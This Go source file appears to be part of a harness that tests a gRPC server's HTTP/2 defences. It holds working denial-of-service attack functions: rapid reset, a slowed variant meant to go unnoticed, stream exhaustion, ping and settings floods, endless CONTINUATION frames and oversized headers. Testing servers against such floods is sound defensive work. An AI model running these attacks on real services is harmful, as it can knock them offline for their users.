package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// translateMethod is what most attacks call.
const translateMethod = "/cbc.error.v1.TranslationService/Translate"

// frames has attackers send frames on a few connections, and new ones when those are closed, until the context ends. It tells how many
// frames they were, besides those that begin a connection.
func frames(ctx context.Context, t *target, do func(*peer) error) (string, error) {
	var sent, conns atomic.Int64
	var said sync.Map
	var all sync.WaitGroup
	for range 4 {
		all.Go(func() {
			for ctx.Err() == nil {
				conn, err := dialAttack(ctx, t.grpc)
				if err != nil {
					time.Sleep(time.Millisecond)
					continue
				}
				conns.Add(1)
				stop := context.AfterFunc(ctx, func() { conn.Close() })
				sent.Add(onPeer(conn, do, &said))
				stop()
				conn.Close()
			}
		})
	}
	all.Wait()
	var words []string
	said.Range(func(word, _ any) bool { words = append(words, word.(string)); return true })
	return strings.TrimSpace(fmt.Sprintf("%d frames, on %d connections %s", sent.Load(), conns.Load(), strings.Join(words, ", "))), some(sent.Load(), "frame was sent")
}

// onPeer does something as long as the connection lasts, counts frames, and notes what the server says at its end.
func onPeer(conn net.Conn, do func(*peer) error, said *sync.Map) int64 {
	p, err := newPeer(conn, 1<<20)
	if err != nil {
		return 0
	}
	go func() {
		for {
			frame, err := p.ReadFrame()
			if err != nil {
				return
			}
			switch f := frame.(type) {
			case *http2.GoAwayFrame:
				said.Store(fmt.Sprintf("GOAWAY %v %.60s", f.ErrCode, f.DebugData()), true)
			case *http2.RSTStreamFrame:
				said.Store("RST_STREAM "+f.ErrCode.String(), true)
			}
		}
	}()
	begun := p.written.Load()
	for do(p) == nil {
	}
	return p.written.Load() - begun
}

// rapidReset begins calls and takes them back at once.
func rapidReset(ctx context.Context, t *target) (string, error) {
	return frames(ctx, t, func(p *peer) error {
		id := p.stream()
		if err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.headers(translateMethod), EndHeaders: true}); err != nil {
			return err
		}
		return p.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// takenBack is rapid reset at a rate that nobody would notice.
func takenBack(ctx context.Context, t *target) (string, error) {
	return frames(ctx, t, func(p *peer) error {
		id := p.stream()
		if err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.headers(translateMethod), EndHeaders: true}); err != nil {
			return err
		}
		time.Sleep(1300 * time.Microsecond)
		return p.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// withoutMessages begins as many calls as a connection may have, sends no message of any, and begins anew after two seconds.
func withoutMessages(ctx context.Context, t *target) (string, error) {
	return frames(ctx, t, func(p *peer) error {
		for range 256 {
			err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: p.stream(), BlockFragment: p.headers(translateMethod), EndHeaders: true})
			if err != nil {
				return err
			}
		}
		time.Sleep(2 * time.Second)
		return errors.New("enough of this connection")
	})
}

func pings(ctx context.Context, t *target) (string, error) {
	return frames(ctx, t, func(p *peer) error { return p.WritePing(false, [8]byte{1}) })
}

func settings(ctx context.Context, t *target) (string, error) {
	return frames(ctx, t, func(p *peer) error {
		return p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16})
	})
}

// continuations begins headers that never end.
func continuations(ctx context.Context, t *target) (string, error) {
	part := bytes.Repeat([]byte{0x00, 0x01, 'a', 0x01, 'b'}, 2000) // "a: b", not to be remembered
	return frames(ctx, t, func(p *peer) error {
		id := p.stream()
		err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.headers(translateMethod)})
		for err == nil {
			err = p.WriteContinuation(id, false, part)
		}
		return err
	})
}

func manyHeaders(ctx context.Context, t *target) (string, error) {
	var more []hpack.HeaderField
	for i := range 10_000 {
		more = append(more, hpack.HeaderField{Name: fmt.Sprint("x-", i), Value: "v", Sensitive: true})
	}
	return frames(ctx, t, func(p *peer) error { return p.heavyHeaders(more) })
}

func longHeader(ctx context.Context, t *target) (string, error) {
	more := []hpack.HeaderField{{Name: "x-long", Value: strings.Repeat("\x01", 1<<20), Sensitive: true}}
	return frames(ctx, t, func(p *peer) error { return p.heavyHeaders(more) })
}

// heavyHeaders sends more headers than a frame has room for.
func (p *peer) heavyHeaders(more []hpack.HeaderField) error {
	block, id := p.headers(translateMethod, more...), p.stream()
	err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block[:maxFrame], EndStream: true})
	for block = block[maxFrame:]; err == nil && len(block) > maxFrame; block = block[maxFrame:] {
		err = p.WriteContinuation(id, false, block[:maxFrame])
	}
	if err == nil {
		err = p.WriteContinuation(id, true, block)
	}
	return err
}
